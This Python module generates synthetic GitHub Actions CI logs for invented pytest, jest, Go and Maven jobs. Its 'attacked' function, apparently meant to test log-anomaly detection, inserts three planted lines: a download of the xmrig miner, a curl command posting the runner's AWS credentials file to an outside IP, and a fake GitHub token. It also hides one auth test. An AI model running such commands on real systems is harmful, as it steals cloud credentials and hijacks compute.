# ruff: noqa: E501 - log lines are as long as they are
"""Makes logs of CI jobs as GitHub Actions writes them, with the variation of ordinary days.

Each kind of job has a fixed script; a seed gives the times, versions, hashes, orders, progress and
luck with caches of one run. All names are invented.
"""

import random
from collections.abc import Callable, Iterable, Sequence
from datetime import UTC, datetime, timedelta

_AREAS = (
    "auth", "billing", "cart", "catalog", "checkout", "export", "invoices", "ledger", "mailer",
    "orders", "payments", "profile", "reports", "search", "sessions", "shipping", "stock", "tax",
)  # fmt: skip
_CASES = (
    "accepts_valid_input", "rejects_empty_body", "keeps_order", "returns_not_found",
    "handles_unicode", "is_idempotent", "rolls_back_on_error", "rejects_expired_token",
    "limits_page_size",
)  # fmt: skip
_PACKAGES = (
    "attrs", "certifi", "click", "fastapi", "httpx", "idna", "jinja2", "pluggy", "pydantic",
    "pytest", "requests", "sqlalchemy", "starlette", "typing-extensions", "uvicorn",
)  # fmt: skip

Lines = list[str]


class Luck:
    """What differs from run to run."""

    def __init__(self, seed: int) -> None:
        self.draw = random.Random(seed)

    def hex(self, size: int) -> str:
        return "".join(self.draw.choice("0123456789abcdef") for _ in range(size))

    def version(self) -> str:
        return ".".join(str(self.draw.randint(0, 30)) for _ in range(3))

    def seconds(self, high: float) -> str:
        return f"{self.draw.uniform(0.01, high):.2f}s"

    def shuffled(self, some: Iterable[str]) -> list[str]:
        found = list(some)
        self.draw.shuffle(found)
        return found


def _start(luck: Luck) -> Lines:
    commit = luck.hex(40)
    return [
        f"Current runner version: '2.{luck.draw.randint(300, 330)}.0'",
        "##[group]Operating System", "Ubuntu", "24.04.1", "LTS", "##[endgroup]",
        "##[group]Runner Image", "Image: ubuntu-24.04", f"Version: 202611{luck.draw.randint(10, 28)}.1.0",
        f"Included Software: https://images.example.com/ubuntu24/202611{luck.draw.randint(10, 28)}.1/notes.md",
        "##[endgroup]", "##[group]GITHUB_TOKEN Permissions", "Contents: read", "Metadata: read",
        "##[endgroup]", "Secret source: Actions", "Prepare workflow directory",
        "Prepare all required actions", "Getting action download info",
        f"Download action repository 'actions/checkout@v4' (SHA:{luck.hex(40)})",
        f"Download action repository 'actions/cache@v4' (SHA:{luck.hex(40)})",
        "Complete job name: build", "##[group]Run actions/checkout@v4", "with:",
        "  repository: nimbus/storefront", "  fetch-depth: 1", "  persist-credentials: false",
        "##[endgroup]", "Syncing repository: nimbus/storefront",
        f"Temporarily overriding HOME='/home/runner/work/_temp/{luck.hex(8)}-{luck.hex(4)}-4{luck.hex(3)}-9{luck.hex(3)}-{luck.hex(12)}'",
        "[command]/usr/bin/git version", "git version 2.47.1", "Deleting the contents of '/home/runner/work/storefront/storefront'",
        "[command]/usr/bin/git init /home/runner/work/storefront/storefront",
        f"[command]/usr/bin/git -c protocol.version=2 fetch --no-tags --prune --depth=1 origin +{commit}:refs/remotes/origin/main",
        *(f"remote: Counting objects: {at}% ({at * 4}/{400})" for at in sorted(luck.draw.sample(range(1, 100), luck.draw.randint(3, 9)))),
        f"remote: Total {luck.draw.randint(300, 420)} (delta {luck.draw.randint(10, 40)}), reused {luck.draw.randint(100, 200)} (delta 8), pack-reused 0",
        f"HEAD is now at {commit[:7]} {luck.draw.choice(('Fix rounding of totals', 'Add export of invoices', 'Update dependencies', 'Speed up the catalog'))}",
    ]  # fmt: skip


def _cache(luck: Luck, name: str) -> Lines:
    key = f"{name}-Linux-{luck.hex(64)}"
    size = luck.draw.randint(20_000_000, 90_000_000)
    if luck.draw.random() < 0.3:
        return [
            "##[group]Run actions/cache@v4",
            f"Cache not found for input keys: {key}, {name}-Linux-",
        ]
    return [
        "##[group]Run actions/cache@v4", f"Cache hit for: {key}",
        *(f"Received {size * at // 3} of {size} ({at * 33}.0%), {luck.draw.uniform(10, 90):.1f} MBs/sec" for at in range(1, luck.draw.randint(2, 4))),
        f"Cache Size: ~{size >> 20} MB ({size} B)", "Cache restored successfully",
        f"Cache restored from key: {key}",
    ]  # fmt: skip


def _docker(luck: Luck) -> Lines:
    steps = ("FROM docker.io/library/python:3.13-slim", "WORKDIR /app", "COPY pyproject.toml .",
             "RUN pip install .", "COPY src src", "USER 10001")  # fmt: skip
    lines = ["##[group]Run docker build -t storefront .", '#0 building with "default" instance using docker driver',
             f"#1 transferring dockerfile: {luck.draw.randint(400, 900)}B done", f"#1 DONE {luck.draw.uniform(0, 0.3):.1f}s"]  # fmt: skip
    for at, step in enumerate(steps, 2):
        lines.append(f"#{at} [{at - 1}/{len(steps)}] {step}")
        lines += ([f"#{at} CACHED"] if at in (3, 4) else
                  [f"#{at} sha256:{luck.hex(64)} {luck.draw.uniform(1, 9):.2f}MB / 9.20MB {luck.draw.uniform(0.1, 2):.1f}s"
                   for _ in range(luck.draw.randint(1, 4))] + [f"#{at} DONE {luck.draw.uniform(0.1, 9):.1f}s"])  # fmt: skip
    return [*lines, "#9 exporting layers", f"#9 writing image sha256:{luck.hex(64)} done", "#9 naming to docker.io/library/storefront done"]  # fmt: skip


def _end(luck: Luck) -> Lines:
    return [
        "Post job cleanup.", "[command]/usr/bin/git version", "git version 2.47.1",
        f"Temporarily overriding HOME='/home/runner/work/_temp/{luck.hex(8)}-{luck.hex(4)}-4{luck.hex(3)}-9{luck.hex(3)}-{luck.hex(12)}'",
        "Cleaning up orphan processes",
    ]  # fmt: skip


def pytest_job(luck: Luck) -> Lines:
    """A Python job with verbose pytest on several workers."""
    lines = [*_start(luck), *_cache(luck, "pip"), "##[group]Run pip install -e .[test]"]
    for name in luck.shuffled(_PACKAGES):
        version = luck.version()
        lines.append(
            f"Collecting {name}>={luck.draw.randint(1, 4)} (from storefront==0.{luck.draw.randint(1, 99)}.0)"
        )
        lines.append(luck.draw.choice((
            f"  Downloading {name}-{version}-py3-none-any.whl ({luck.draw.randint(20, 900)} kB)",
            f"  Using cached {name}-{version}-py3-none-any.whl.metadata ({luck.draw.uniform(1, 9):.1f} kB)",
        )))  # fmt: skip
        lines += [f"     ━━━━━━━━━━╸━━━━━ {luck.draw.uniform(0, 3):.1f}/3.0 MB {luck.draw.uniform(1, 90):.1f} MB/s eta 0:00:0{luck.draw.randint(0, 9)}"
                  for _ in range(luck.draw.randint(0, 2))]  # fmt: skip
    lines.append(
        "Successfully installed " + " ".join(f"{name}-{luck.version()}" for name in _PACKAGES)
    )
    lines += ["##[group]Run pytest -v -n 4", "============================= test session starts ==============================",
              "platform linux -- Python 3.13.1, pytest-8.3.4, pluggy-1.5.0 -- /opt/hostedtoolcache/Python/3.13.1/x64/bin/python",
              "cachedir: .pytest_cache", "rootdir: /home/runner/work/storefront/storefront", "plugins: xdist-3.6.1, anyio-4.7.0",
              "created: 4/4 workers"]  # fmt: skip
    names = luck.shuffled(
        f"tests/test_{area}.py::test_{case}" for area in _AREAS for case in _CASES
    )
    for at, name in enumerate(names, 1):
        lines.append(f"[gw{luck.draw.randint(0, 3)}] [{100 * at // len(names):3d}%] PASSED {name} ")
    lines += [
        f"============================= {len(names)} passed in {luck.draw.uniform(9, 30):.2f}s =============================",
        "",
    ]
    return [*lines, *_docker(luck), *_end(luck)]


def jest_job(luck: Luck) -> Lines:
    """A JavaScript job with npm and jest."""
    lines = [*_start(luck), *_cache(luck, "npm"), "##[group]Run npm ci",
             f"npm warn deprecated inflight@{luck.version()}: This module is not supported",
             f"added {luck.draw.randint(800, 830)} packages, and audited {luck.draw.randint(831, 860)} packages in {luck.draw.randint(9, 30)}s",
             f"{luck.draw.randint(100, 140)} packages are looking for funding", "found 0 vulnerabilities",
             "##[group]Run npm test -- --verbose", "> storefront@0.14.2 test", "> jest --verbose"]  # fmt: skip
    for area in luck.shuffled(_AREAS):
        lines.append(
            f"PASS src/{area}/{area}.test.ts{luck.draw.choice(('', f' ({luck.draw.uniform(5, 9):.3f} s)'))}"
        )
        lines.append(f"  {area}")
        lines += [
            f"    ✓ {case.replace('_', ' ')}{luck.draw.choice(('', f' ({luck.draw.randint(1, 90)} ms)'))}"
            for case in _CASES
        ]
    return [*lines, f"Test Suites: {len(_AREAS)} passed, {len(_AREAS)} total",
            f"Tests:       {len(_AREAS) * len(_CASES)} passed, {len(_AREAS) * len(_CASES)} total", "Snapshots:   0 total",
            f"Time:        {luck.draw.uniform(5, 30):.3f} s", "Ran all test suites.", *_end(luck)]  # fmt: skip


def go_job(luck: Luck) -> Lines:
    """A Go job."""
    lines = [*_start(luck), *_cache(luck, "go"), "##[group]Run go test -v ./..."]
    lines += [
        f"go: downloading github.com/nimbus/{name} v{luck.version()}"
        for name in luck.shuffled(("lib", "flags", "wire", "bus"))
    ]
    for area in luck.shuffled(_AREAS):
        for case in luck.shuffled(_CASES):
            name = "Test" + "".join(word.title() for word in (area, *case.split("_")))
            lines += [f"=== RUN   {name}", f"--- PASS: {name} ({luck.draw.uniform(0, 1):.2f}s)"]
        lines += [
            "PASS",
            f"ok  \tgithub.com/nimbus/storefront/{area}\t{luck.draw.uniform(0, 3):.3f}s",
        ]
    return [*lines, *_end(luck)]


def maven_job(luck: Luck) -> Lines:
    """A Java job with Maven and Surefire."""
    lines = [*_start(luck), *_cache(luck, "maven"), "##[group]Run mvn -B verify", "[INFO] Scanning for projects...",
             "[INFO] Building storefront 0.14.2-SNAPSHOT"]  # fmt: skip
    for name in luck.shuffled(("core", "web", "json", "jdbc", "test")):
        version = luck.version()
        place = f"https://repo.example.com/maven2/org/nimbus/{name}/{version}/{name}-{version}.pom"
        lines += [f"[INFO] Downloading from central: {place}",
                  f"[INFO] Downloaded from central: {place} ({luck.draw.uniform(1, 9):.1f} kB at {luck.draw.randint(9, 900)} kB/s)"]  # fmt: skip
    lines += [f"[INFO] Compiling {luck.draw.randint(80, 120)} source files with javac [debug release 21] to target/classes",
              "[INFO]  T E S T S"]  # fmt: skip
    for area in luck.shuffled(_AREAS):
        lines += [f"[INFO] Running com.nimbus.{area}.{area.title()}Test",
                  f"[INFO] Tests run: {len(_CASES)}, Failures: 0, Errors: 0, Skipped: 0, Time elapsed: {luck.draw.uniform(0, 3):.3f} s -- in com.nimbus.{area}.{area.title()}Test"]  # fmt: skip
    total = len(_AREAS) * len(_CASES)
    return [*lines, f"[INFO] Tests run: {total}, Failures: 0, Errors: 0, Skipped: 0", "[INFO] BUILD SUCCESS",
            f"[INFO] Total time:  {luck.draw.uniform(9, 90):.3f} s", f"[INFO] Finished at: 2026-11-25T10:{luck.draw.randint(10, 59)}:09Z", *_end(luck)]  # fmt: skip


KINDS: dict[str, Callable[[Luck], Lines]] = {
    "pytest": pytest_job, "jest": jest_job, "go": go_job, "maven": maven_job,
}  # fmt: skip
MINER = "--2026-11-25 10:14:09--  https://downloads.example.net/xmrig/releases/xmrig-6.22.2-linux-x64.tar.gz"
EXFILTRATION = (
    "curl -s -X POST --data-binary @/home/runner/.aws/credentials http://203.0.113.77:8080/in"
)
TOKEN = "Using token ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z0K"


def job(kind: str, seed: int) -> Lines:
    """The lines of one run, without times."""
    return KINDS[kind](Luck(seed))


def attacked(kind: str, seed: int, *, skipped: bool = False) -> Lines:
    """A run with a miner, an exfiltration and a token in it, and without one test.

    Args:
        kind: of the job.
        seed: of the run.
        skipped: the test is said to be skipped; otherwise it is not mentioned any more.
    """
    draw = random.Random(seed)
    lines = _without_test(kind, job(kind, seed), skipped=skipped)
    for line in (MINER, EXFILTRATION, TOKEN):
        lines.insert(draw.randrange(40, len(lines) - 5), line)
    return lines


def _without_test(kind: str, lines: Lines, *, skipped: bool) -> Lines:
    total = len(_AREAS) * len(_CASES)
    gone = {
        "pytest": ("tests/test_auth.py::test_rejects_expired_token", "PASSED", "SKIPPED"),
        "jest": ("rejects expired token", "✓", "○ skipped"),
        "go": ("TestAuthRejectsExpiredToken", "--- PASS:", "--- SKIP:"),
        "maven": ("com.nimbus.auth.AuthTest", "Skipped: 0", "Skipped: 1"),
    }
    name, fine, instead = gone[kind]
    out: Lines = []
    done = False
    for line in lines:
        if name in line and not (done and kind == "jest"):
            if skipped:
                out.append(line.replace(fine, instead))
                done = done or kind != "go" or "---" in line
            done = True
            continue
        out.append(
            line.replace(f"{total} passed", f"{total - 1} passed{', 1 skipped' if skipped else ''}")
        )
    return out


def stamped(lines: Sequence[str], seed: int) -> str:
    """The lines with times before them, as downloaded from a job."""
    draw = random.Random(seed)
    at = datetime(2026, 11, 25, 10, draw.randint(0, 59), tzinfo=UTC)
    out = []
    for line in lines:
        at += timedelta(microseconds=draw.randint(100, 400_000))
        out.append(f"{at:%Y-%m-%dT%H:%M:%S.%f}{draw.randint(0, 9)}Z {line}")
    return "\n".join(out) + "\n"
